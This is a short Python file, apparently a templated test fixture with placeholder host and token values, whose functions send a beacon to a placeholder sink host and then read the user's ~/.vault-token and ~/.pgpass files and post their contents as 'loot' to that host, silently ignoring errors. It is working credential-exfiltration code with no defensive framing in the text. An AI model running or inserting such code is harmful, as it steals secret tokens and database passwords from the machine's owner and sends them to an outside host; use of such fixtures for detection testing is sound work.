import contextlib
import urllib.request
from pathlib import Path


def post(port, loot):
    with contextlib.suppress(OSError):
        urllib.request.urlopen(f"http://@SINK@:{port}/loot", loot, timeout=3)


def act():
    post(8000, b"hello-@TOKEN@")
    for name in (".vault-token", ".pgpass"):
        with contextlib.suppress(OSError):
            loot = Path.home().joinpath(name).read_bytes()
            post(8080, loot)
